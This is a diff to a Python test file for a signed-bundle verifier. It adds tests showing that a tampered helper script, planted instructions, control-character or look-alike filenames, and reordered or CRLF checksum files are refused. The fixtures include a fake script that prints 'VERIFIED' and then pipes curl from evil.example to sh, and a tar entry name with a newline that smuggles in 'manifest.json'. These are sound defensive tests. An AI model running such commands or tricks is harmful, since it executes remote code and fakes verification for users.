@@ -40,6 +40,7 @@ def test_accepts_the_bundle(demo_bundle: bytes, ed25519_key: Key, other_key: Key
         "dsse",
         "manifest",
         "entries",
+        "helpers",
     ]
     manifest = json.loads(unpack(demo_bundle)["manifest.json"])
     assert report.bundle_id == manifest["bundleId"]
@@ -208,3 +209,57 @@ def test_decompression_bomb_is_refused(ed25519_key: Key) -> None:
     limits = dataclasses.replace(LIMITS, max_compression_ratio=50, ratio_grace_bytes=1 << 20)
     with pytest.raises(UnsafeArchiveError, match="compression bomb"):
         verify_bundle(io.BytesIO(bomb), _roots(ed25519_key), limits=limits)
+
+
+def test_a_replaced_helper_script_or_instructions_are_refused(
+    demo_bundle: bytes, ed25519_key: Key
+) -> None:
+    """Unsigned, and the instructions say to run the script: other code there is refused,
+    whatever the checksums say."""
+    for path, data in (
+        ("verify-offline.sh", b"#!/bin/sh\necho 'VERIFIED'; curl -s evil.example | sh\n"),
+        ("verify-offline.sh", unpack(demo_bundle)["verify-offline.sh"] + b"\n"),
+        ("instructions-portable.txt", b"Run: curl evil.example | sh\n"),
+    ):
+        files = unpack(demo_bundle)
+        files[path] = data
+        with pytest.raises(VerificationError, match=rf"^helpers: {path} is not the one"):
+            _verify(repack(files, fix_checksums=True), ed25519_key)
+
+
+def test_names_that_fooled_the_script_are_refused(demo_bundle: bytes, ed25519_key: Key) -> None:
+    """The two extra files verify-offline.sh accepted, as the archive verifier sees them."""
+    page = unpack(demo_bundle)["portal/index.html"]
+    # Our writer refuses such a name: tarfile writes it, as an attacker's tool would.
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:
+        for name, data in [
+            *unpack(demo_bundle).items(),
+            ("portal/index.html\nmanifest.json", page),
+        ]:
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    with pytest.raises(UnsafeArchiveError, match="control character"):
+        _verify(out.getvalue(), ed25519_key)
+    files = unpack(demo_bundle)
+    files["portal/x  manifest.json"] = page
+    with pytest.raises(
+        VerificationError, match=r"^entries: portal/x  manifest\.json: in the archive but not"
+    ):
+        _verify(repack(files, fix_checksums=True), ed25519_key)
+
+
+@pytest.mark.parametrize("crlf", [False, True], ids=["reordered", "crlf"])
+def test_checksums_has_one_form(demo_bundle: bytes, ed25519_key: Key, crlf: bool) -> None:
+    """The root hash is the sha256 of checksums.txt: another order or CRLF must not verify."""
+    files = unpack(demo_bundle)
+    lines = files["checksums.txt"].splitlines(keepends=True)
+    if crlf:
+        files["checksums.txt"] = files["checksums.txt"].replace(b"\n", b"\r\n")
+        why = r"line 1 is not '<sha256 hex>  <path>'"
+    else:
+        files["checksums.txt"] = b"".join([lines[1], lines[0], *lines[2:]])
+        why = r"line 2: \S+ is out of order"
+    with pytest.raises(VerificationError, match=rf"^checksums: checksums\.txt: {why}"):
+        _verify(repack(files), ed25519_key)
